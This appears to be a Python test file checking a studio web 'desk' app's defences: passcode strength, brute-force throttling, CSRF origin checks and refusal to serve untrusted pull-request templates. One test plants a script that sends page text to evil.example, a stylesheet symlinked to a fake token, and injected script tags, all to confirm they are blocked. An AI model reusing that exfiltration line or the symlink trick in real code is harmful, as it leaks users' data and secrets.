"""What an attacker on the studio's network tries at the desk: a weak passcode, guessing it
quickly from many connections, fetching its pages without it, a form sent from another
program on this computer, and a pull request's own desk templates."""

from __future__ import annotations

import asyncio
import http.client
import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlencode

import pytest
import uvicorn
from conftest import REPO, run
from starlette.applications import Starlette
from starlette.testclient import TestClient

from pipeline.desk.app import DeskConfig, create_app
from pipeline.desk.guard import passcode_problem
from pipeline.trust.desk import GUESSES_PER_ADDRESS, OPEN_PATHS, GuessThrottle

PASSCODE = "1234-5678-9012"


@pytest.mark.parametrize("weak", ["--------", "1-------", "1234 567", "abc-def-gh", "  -- 12 --  "])
def test_a_passcode_too_easy_to_guess_is_refused_after_dashes_and_spaces_go(weak: str) -> None:
    assert passcode_problem(weak) is not None


@pytest.mark.parametrize("strong", ["12345678", "1234-5678", "correct-horse-battery", "abcdefghij"])
def test_eight_digits_or_ten_characters_are_enough(strong: str) -> None:
    assert passcode_problem(strong) is None


def test_the_desk_refuses_to_start_on_a_weak_passcode_file(root: Path, tmp_path: Path) -> None:
    (tmp_path / "code").write_text("--------\n")
    result = run(root, "desk", "--host", "0.0.0.0", "--passcode-file", str(tmp_path / "code"), "--no-open")
    assert result.exit_code == 2
    assert "too easy to guess: it is empty" in result.output


def test_wrong_guesses_from_one_address_are_held_off_for_at_most_a_minute() -> None:
    now = [1000.0]
    throttle = GuessThrottle(clock=lambda: now[0], pause=0)

    async def guess(address: str, typed: str) -> bool | int:
        return await throttle.judge(address, typed, PASSCODE)

    for _ in range(GUESSES_PER_ADDRESS):
        assert asyncio.run(guess("10.0.0.9", "0000-0000-0000")) is False
        now[0] += 1
    held = asyncio.run(guess("10.0.0.9", PASSCODE))  # not judged, even when right
    assert held is not True and held is not False and 0 < held <= 60
    assert asyncio.run(guess("10.0.0.7", PASSCODE)) is True  # the studio's own computer
    now[0] += held
    assert asyncio.run(guess("10.0.0.9", PASSCODE)) is True


def test_guesses_sent_together_from_one_address_are_counted_before_they_are_judged() -> None:
    throttle = GuessThrottle(pause=0.05)

    async def together() -> list[bool | int]:
        guesses = (throttle.judge("10.0.0.9", "0000-0000-0000", PASSCODE) for _ in range(20))
        return list(await asyncio.gather(*guesses))

    verdicts = asyncio.run(together())
    assert verdicts.count(False) == GUESSES_PER_ADDRESS  # judged
    assert all(isinstance(v, int) and not isinstance(v, bool) and v > 0 for v in verdicts if v is not False)


def test_the_addresses_of_one_ipv6_network_share_their_guesses() -> None:
    throttle = GuessThrottle(pause=0)
    for host in range(GUESSES_PER_ADDRESS):
        assert asyncio.run(throttle.judge(f"2001:db8:1:2::{host + 1}", "0000-0000-0000", PASSCODE)) is False
    held = asyncio.run(throttle.judge("2001:db8:1:2:ffff::9", PASSCODE, PASSCODE))
    assert held is not True and held is not False
    assert asyncio.run(throttle.judge("2001:db8:1:3::1", PASSCODE, PASSCODE)) is True


@pytest.fixture
def network_desk(tmp_path: Path) -> TestClient:
    shutil.copytree(REPO / "content", tmp_path / "content")
    config = DeskConfig(root=tmp_path, host="0.0.0.0", passcode=PASSCODE, workers=1, watch=False)
    return TestClient(create_app(config), base_url="http://127.0.0.1:8001")


def _csrf(client: TestClient, path: str) -> str:
    match = re.search(r'name="csrf" value="([^"]+)"', client.get(path).text)
    assert match
    return match.group(1)


def test_the_sixth_wrong_passcode_in_a_minute_gets_429_with_retry_after(network_desk: TestClient) -> None:
    network_desk.app.state.desk.guesses.pause = 0  # type: ignore[attr-defined]
    with network_desk as client:
        csrf = _csrf(client, "/login")
        for _ in range(GUESSES_PER_ADDRESS):
            assert client.post("/login", data={"csrf": csrf, "passcode": "9999-9999-9999"}).status_code == 401
        held = client.post("/login", data={"csrf": csrf, "passcode": PASSCODE}, follow_redirects=False)
        assert held.status_code == 429
        assert 0 < int(held.headers["retry-after"]) <= 60
        assert "Too many wrong passcodes" in held.text


def test_a_form_from_another_port_on_this_computer_is_refused(network_desk: TestClient) -> None:
    with network_desk as client:
        csrf = _csrf(client, "/login")
        other_port = client.post(
            "/login", data={"csrf": csrf, "passcode": PASSCODE}, headers={"Origin": "http://127.0.0.1:9999"}
        )
        assert other_port.status_code == 403 and "another site" in other_port.text
        other_scheme = client.post(
            "/login", data={"csrf": csrf, "passcode": PASSCODE}, headers={"Origin": "https://127.0.0.1:8001"}
        )
        assert other_scheme.status_code == 403
        own = client.post(
            "/login",
            data={"csrf": csrf, "passcode": PASSCODE},
            headers={"Origin": "http://127.0.0.1:8001"},
            follow_redirects=False,
        )
        assert own.status_code == 303


# -- the desk on the network, attacked from another computer ------------------------------


@contextmanager
def desk_served(app: Starlette) -> Iterator[int]:
    """`app` served by uvicorn on 127.0.0.1 (the desk's own server, in a thread); yields its
    port. Without the lifespan: signing in needs neither the library nor the renderers."""
    listening = socket.socket()
    listening.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive(), "the desk did not start"
        time.sleep(0.02)
    try:
        yield listening.getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        listening.close()


class Browser:
    """One computer of the studio's network: its own address (127.0.0.x) and cookie."""

    def __init__(self, port: int, address: str) -> None:
        self.port, self.address, self.cookie = port, address, ""

    def send(self, method: str, path: str, form: dict[str, str] | None = None) -> tuple[int, str]:
        connection = http.client.HTTPConnection(
            "127.0.0.1", self.port, timeout=60, source_address=(self.address, 0)
        )
        headers = {"Cookie": self.cookie, "Content-Type": "application/x-www-form-urlencoded"}
        connection.request(method, path, body=urlencode(form or {}), headers=headers)
        response = connection.getresponse()
        body = response.read().decode()
        if cookie := response.getheader("set-cookie"):
            self.cookie = cookie.split(";")[0]
        connection.close()
        return response.status, body

    def token(self) -> str:
        match = re.search(r'name="csrf" value="([^"]+)"', self.send("GET", "/login")[1])
        assert match
        return match.group(1)


def test_an_honest_sign_in_is_answered_while_one_address_floods_the_desk_with_guesses(tmp_path: Path) -> None:
    """20 wrong passcodes sent together from one computer: 5 are judged, the others wait
    their minute (429); the right passcode from another computer meanwhile is let in at
    once, before any of the attacker's judged guesses is even answered."""
    app = create_app(DeskConfig(root=tmp_path, host="0.0.0.0", passcode=PASSCODE, workers=1, watch=False))
    answered: list[tuple[str, int]] = []
    with desk_served(app) as port:
        attacker, honest = Browser(port, "127.0.0.2"), Browser(port, "127.0.0.1")
        attack_token, honest_token = attacker.token(), honest.token()

        def guess() -> None:
            status, _ = attacker.send("POST", "/login", {"csrf": attack_token, "passcode": "9999-9999-9999"})
            answered.append(("attacker", status))

        guesses = [threading.Thread(target=guess) for _ in range(20)]
        for thread in guesses:
            thread.start()
        counted = app.state.desk.guesses.guesses
        while len(counted.get("127.0.0.2", ())) < GUESSES_PER_ADDRESS:  # the attack is under way
            time.sleep(0.01)
        status, _ = honest.send("POST", "/login", {"csrf": honest_token, "passcode": PASSCODE})
        answered.append(("honest", status))
        for thread in guesses:
            thread.join()
        assert honest.send("GET", "/static/desk.js")[0] == 200  # signed in
    statuses = [status for who, status in answered if who == "attacker"]
    assert statuses.count(401) == GUESSES_PER_ADDRESS and statuses.count(429) == 20 - GUESSES_PER_ADDRESS
    assert ("honest", 303) in answered
    judged = [i for i, (who, status) in enumerate(answered) if status == 401]
    assert answered.index(("honest", 303)) < min(judged)


# -- what the desk serves before, and instead of, a studio's files ------------------------


def test_nothing_but_the_sign_in_page_and_its_stylesheet_is_served_without_the_passcode(
    network_desk: TestClient,
) -> None:
    with network_desk as client:
        app = client.app
        for route in app.routes:  # type: ignore[attr-defined]
            path = route.path.replace("{name}", "desk.js")
            for method in route.methods - {"HEAD"}:
                answer = client.request(method, path, follow_redirects=False)
                if path in OPEN_PATHS:
                    assert answer.status_code in (200, 204, 400, 403), (method, path)
                else:
                    assert answer.status_code in (303, 401), (method, path)
                    assert answer.status_code == 401 or answer.headers["location"] == "/login"
        assert client.get("/static/desk.js").status_code == 401
        assert client.get("/static/desk.css").status_code == 200
        csrf = _csrf(client, "/login")
        client.post("/login", data={"csrf": csrf, "passcode": PASSCODE})
        assert client.get("/static/desk.js").status_code == 200


def test_a_studios_desk_templates_and_links_are_never_served(tmp_path: Path) -> None:
    """A pull request's templates/desk/: its own script, a page that would run it, and a
    stylesheet that is a link to a secret. The desk serves the package's own files only."""
    shutil.copytree(REPO / "content", tmp_path / "content")
    secret = tmp_path / "secret.txt"
    secret.write_text("token=ghp_secret\n")
    own = tmp_path / "templates" / "desk"
    own.mkdir(parents=True)
    (own / "desk.js").write_text("fetch('https://evil.example/?' + document.body.innerText)\n")
    (own / "desk.css").symlink_to(secret)
    (own / "page.html.j2").write_text("<script>alert('studio')</script>\n")
    (own / "login.html.j2").write_text("<script>alert('studio')</script>\n")
    packaged = REPO / "templates" / "desk"
    app = create_app(DeskConfig(root=tmp_path, workers=1, watch=False))
    with TestClient(app, base_url="http://127.0.0.1:8001") as client:
        page = client.get("/")
        assert page.status_code == 200 and "alert(" not in page.text and "/static/desk.js" in page.text
        assert "script-src" not in page.headers["content-security-policy"]  # default-src 'self' only
        assert client.get("/static/desk.js").content == (packaged / "desk.js").read_bytes()
        css = client.get("/static/desk.css")
        assert css.content == (packaged / "desk.css").read_bytes() and "ghp_secret" not in css.text
        assert client.get("/static/page.html.j2").status_code == 404
